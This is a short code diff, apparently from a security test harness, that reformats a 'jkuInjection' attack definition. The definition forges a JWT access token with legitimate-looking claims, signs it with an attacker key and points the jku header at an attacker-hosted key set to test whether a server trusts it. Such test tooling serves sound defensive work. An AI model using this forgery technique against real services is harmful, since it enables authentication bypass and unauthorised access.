@@ -16,7 +16,9 @@ export const jkuInjection = defineAttack({
   async build(kit) {
     const claims = claimsFor(kit.honest, kit.issuer, kit.rs.audience, kit.rs.scope)
     const { jwksUrl, privateKey, kid } = kit.attacker
-    const token = await new SignJWT(claims).setProtectedHeader({ alg: 'ES256', typ: 'at+jwt', kid, jku: jwksUrl }).sign(privateKey)
+    const token = await new SignJWT(claims)
+      .setProtectedHeader({ alg: 'ES256', typ: 'at+jwt', kid, jku: jwksUrl })
+      .sign(privateKey)
     return { applicable: true, watchesAttackerUrl: true, requests: [{ variant: 'jku to the attacker key set', token }] }
   },
 })
